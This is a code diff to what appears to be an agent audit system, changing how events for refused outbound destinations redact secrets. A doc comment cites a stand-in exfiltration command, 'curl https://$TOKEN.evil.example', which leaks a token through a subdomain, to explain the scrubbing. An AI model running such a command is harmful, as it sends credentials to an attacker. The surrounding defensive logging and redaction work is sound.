@@ -55,11 +55,11 @@ type Destination struct {
 // egress.denied has the full count). exec is the execution event already
 // built for the same call: each event copies its agent, surface, tool,
 // action type and session, links to it by id, and is stamped with the time
-// of the destination's first refusal. secrets are the call's credential
-// values (Record.Secrets): a name built from a token (curl
+// of the destination's first refusal. scrub is the call's redactor
+// (Record.Scrub): a name built from a token (curl
 // https://$TOKEN.evil.example) is scrubbed, as on the execution event.
 // Every event is validated; nil denials give no events.
-func (b Builder) DestinationDenials(exec *Event, denials []egress.DeniedDestination, secrets map[string]string) ([]*Event, error) {
+func (b Builder) DestinationDenials(exec *Event, denials []egress.DeniedDestination, scrub Scrubber) ([]*Event, error) {
 	if len(denials) == 0 {
 		return nil, nil
 	}
@@ -70,7 +70,7 @@ func (b Builder) DestinationDenials(exec *Event, denials []egress.DeniedDestinat
 	if rnd == nil {
 		rnd = rand.Reader
 	}
-	s := newScrubber(secrets)
+	s := scrubber{scrub}
 	if len(denials) > MaxDeniedHosts {
 		denials = denials[:MaxDeniedHosts]
 	}
